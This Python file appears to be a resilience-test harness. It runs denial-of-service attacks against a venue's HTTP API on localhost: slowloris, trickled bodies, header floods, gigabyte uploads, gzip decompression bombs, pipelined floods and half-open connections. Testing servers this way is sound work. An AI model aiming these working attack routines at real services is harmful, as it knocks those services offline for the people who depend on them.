"""A process that abuses a venue's HTTP until it is told to stop.

Reads orders as lines of JSON from standard input: `{"attacks": [name], "port": n, "token": t}`
begins some, an empty line ends them, and a line with what came of each goes to standard output.
"""

import asyncio
import contextlib
import gzip
import json
import resource
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from functools import cache
from typing import Any

SLOW_CONNECTIONS = 1_000
BODY_CONNECTIONS = 300
HALF_OPEN = 500
BUSY_CONNECTIONS = 4
"""Those that do as much as they can, in the attacks that cost the venue work."""
GIGABYTE = 1 << 30
TRICKLE_S = 0.5
CHUNK = b"10000\r\n" + b" " * 65_536 + b"\r\n"


class Attack:
    """What an attack needs to know, and what it has seen."""

    def __init__(self, port: int, token: str) -> None:
        self.port = port
        self.token = token
        self.statuses: Counter[str] = Counter()
        self.opened = 0
        self.ended = 0
        self.longest_s = 0.0
        """How long the venue let the longest lived of the ended connections be."""
        self.most_bytes = 0
        """What was sent on one connection before it ended or was refused."""

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection."""
        self.opened += 1
        return await asyncio.open_connection("127.0.0.1", self.port)

    def head(self, target: str, *lines: str) -> bytes:
        """Return the head of a request with a token and a JSON body to come."""
        start = [f"{target} HTTP/1.1", "Host: x", f"Authorization: Bearer {self.token}"]
        return "\r\n".join([*start, "Content-Type: application/json", *lines, "", ""]).encode()

    async def status(self, reader: asyncio.StreamReader) -> None:
        """Read one whole answer and count its status."""
        head = await reader.readuntil(b"\r\n\r\n")
        self.statuses[head[9:12].decode()] += 1
        length = head.lower().find(b"content-length: ")
        if length >= 0:
            await reader.readexactly(int(head[length + 16 :].split(b"\r\n", 1)[0]))

    def seen(self) -> dict[str, Any]:
        """Return what came of it."""
        return {
            "opened": self.opened,
            "ended": self.ended,
            "longest_s": self.longest_s,
            "most_bytes": self.most_bytes,
            "statuses": self.statuses,
        }

    async def trickle(self, first: bytes, drop: bytes) -> None:
        """Open connections and let their requests trickle in; each that ends is opened again."""
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await self.connect()
                start = time.monotonic()
                writer.write(first)
                ending = asyncio.ensure_future(reader.read())
                try:
                    while not ending.done():
                        await asyncio.wait([ending], timeout=TRICKLE_S)
                        writer.write(drop)
                finally:
                    ending.cancel()
                    writer.transport.abort()
                self.ended += 1
                self.longest_s = max(self.longest_s, time.monotonic() - start)

    async def again(self, act: Callable[[], Awaitable[None]]) -> None:
        """Do something again and again, on new connections."""
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await act()
            await asyncio.sleep(0)


async def slowloris(attack: Attack) -> None:
    """A thousand heads that never end: half of them the lane's to read, half the server's."""
    odd = b"POST /api/v1/order/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    heads = [b"GET /health HTTP/1.1\r\n", odd + b"GET /health HTTP/1.1\r\n"]
    await asyncio.gather(
        *(attack.trickle(heads[n % 2], b"X: y\r\n") for n in range(SLOW_CONNECTIONS))
    )


async def slow_bodies(attack: Attack) -> None:
    """Bodies that come a byte at a time, with a length and in chunks."""
    lengthy = attack.head("POST /api/v1/order/", "Content-Length: 1000")
    chunked = attack.head("POST /api/v1/order/", "Transfer-Encoding: chunked")
    kinds = [(lengthy, b" "), (chunked, b"1\r\n \r\n")]
    await asyncio.gather(*(attack.trickle(*kinds[n % 2]) for n in range(BODY_CONNECTIONS)))


async def many_headers(attack: Attack) -> None:
    """Ten thousand headers in one head."""
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(10_000))

    async def act() -> None:
        reader, writer = await attack.connect()
        try:
            writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\n" + lines + b"\r\n")
            await attack.status(reader)
        finally:
            writer.transport.abort()

    await asyncio.gather(*(attack.again(act) for _ in range(BUSY_CONNECTIONS)))


async def gigabytes(attack: Attack) -> None:
    """Bodies of a gigabyte, announced and not."""

    async def stream(head: bytes, part: bytes) -> None:
        reader, writer = await attack.connect()
        answer = asyncio.ensure_future(attack.status(reader))
        writer.write(head)
        sent = 0
        try:
            while sent < GIGABYTE:
                writer.write(part)
                await writer.drain()
                sent += len(part)
        finally:
            # What the transport holds was not sent.
            unsent = writer.transport.get_write_buffer_size()
            attack.most_bytes = max(attack.most_bytes, sent - unsent)
            writer.transport.abort()
            await asyncio.wait([answer])
            answer.exception()

    announced = attack.head("POST /api/v1/order/", f"Content-Length: {GIGABYTE}")
    chunked = attack.head("POST /api/v1/order/", "Transfer-Encoding: chunked")
    nowhere = attack.head("POST /nowhere", "Transfer-Encoding: chunked")
    kinds = [(announced, b" " * 65_536), (chunked, CHUNK), (nowhere, CHUNK)]
    await asyncio.gather(
        *(
            attack.again(lambda kind=kinds[n % 3]: stream(*kind))  # type: ignore[misc]
            for n in range(3 * BUSY_CONNECTIONS)
        )
    )


@cache
def bomb() -> bytes:
    """Return twenty kilobytes that become twenty megabytes."""
    return gzip.compress(b" " * 20_000_000, 6)


async def bombs(attack: Attack) -> None:
    """Small gzip bodies that become a thousand times larger."""
    packed = bomb()
    request = attack.head(
        "POST /api/v1/order/", "Content-Encoding: gzip", f"Content-Length: {len(packed)}"
    )

    async def act() -> None:
        reader, writer = await attack.connect()
        try:
            while True:
                writer.write(request + packed)
                await attack.status(reader)
        finally:
            writer.transport.abort()

    await asyncio.gather(*(attack.again(act) for _ in range(BUSY_CONNECTIONS)))


async def pipelines(attack: Attack) -> None:
    """Requests without end that wait for no answer."""
    body = b'{"market":"TATA_INR","side":"buy","price":"0.05","quantity":"1","time_in_force":"ioc"}'
    order = attack.head("POST /api/v1/order/", f"Content-Length: {len(body)}") + body
    kinds = [order * 100, b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 1_000]

    async def flood(requests: bytes) -> None:
        reader, writer = await attack.connect()
        reading = asyncio.ensure_future(_drop(attack, reader))
        try:
            while True:
                writer.write(requests)
                await writer.drain()
        finally:
            reading.cancel()
            writer.transport.abort()

    await asyncio.gather(
        *(
            attack.again(lambda kind=kinds[n % 2]: flood(kind))  # type: ignore[misc]
            for n in range(BUSY_CONNECTIONS)
        )
    )


async def _drop(attack: Attack, reader: asyncio.StreamReader) -> None:
    while part := await reader.read(1 << 18):
        attack.statuses["answers"] += part.count(b"HTTP/1.1 ")


async def strangers(attack: Attack) -> None:
    """Connections that say nothing; each that ends is opened again."""
    await asyncio.gather(*(attack.again(lambda: _sit(attack)) for _ in range(SLOW_CONNECTIONS)))


async def _sit(attack: Attack) -> None:
    reader, writer = await attack.connect()
    try:
        await reader.read()
    finally:
        attack.ended += 1
        writer.transport.abort()


async def half_open(attack: Attack) -> None:
    """Connections that say nothing, that close one way only, and that vanish."""

    async def half() -> None:
        reader, writer = await attack.connect()
        try:
            writer.write(b"GET /api/v1/markets HTTP/1.1\r\nHost: x\r\n\r\n")
            writer.write_eof()
            await reader.read()
        finally:
            writer.transport.abort()

    async def vanish() -> None:
        _, writer = await attack.connect()
        writer.write(b"GET /api/v1/depth?market=TATA_INR HTTP/1.1\r\nHost: x\r\n\r\n")
        await asyncio.sleep(0.001)
        writer.transport.abort()

    many = [attack.again(lambda: _sit(attack)) for _ in range(HALF_OPEN)]
    busy = [attack.again(act) for act in (half, vanish) for _ in range(BUSY_CONNECTIONS)]
    await asyncio.gather(*many, *busy)


async def deaf(attack: Attack) -> None:
    """Requests for much, of which not one answer is read."""
    requests = b"GET /api/v1/depth?market=TATA_INR&limit=5000 HTTP/1.1\r\nHost: x\r\n\r\n" * 100

    async def act() -> None:
        plain = socket.socket()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        plain.setblocking(False)
        loop = asyncio.get_running_loop()
        try:
            await loop.sock_connect(plain, ("127.0.0.1", attack.port))
            attack.opened += 1
            while True:
                await loop.sock_sendall(plain, requests)
        finally:
            plain.close()

    await asyncio.gather(*(attack.again(act) for _ in range(BUSY_CONNECTIONS)))


ATTACKS = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        slowloris, slow_bodies, many_headers, gigabytes, bombs, pipelines, half_open, deaf,
        strangers,
    )
}  # fmt: skip


async def run(names: list[str], port: int, token: str) -> dict[str, Any]:
    """Attack until a line comes in."""
    attacks = {name: Attack(port, token) for name in names}
    attacking = asyncio.gather(*(ATTACKS[name](attack) for name, attack in attacks.items()))
    stop = asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
    await asyncio.wait([attacking, stop], return_when=asyncio.FIRST_COMPLETED)
    if not attacking.done():
        attacking.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await attacking
    return {name: attack.seen() for name, attack in attacks.items()}


def main() -> None:
    """Attack as told until the input ends."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    while line := sys.stdin.readline():
        asked = json.loads(line)
        seen = asyncio.run(run(asked["attacks"], asked["port"], asked["token"]))
        sys.stdout.write(json.dumps(seen) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
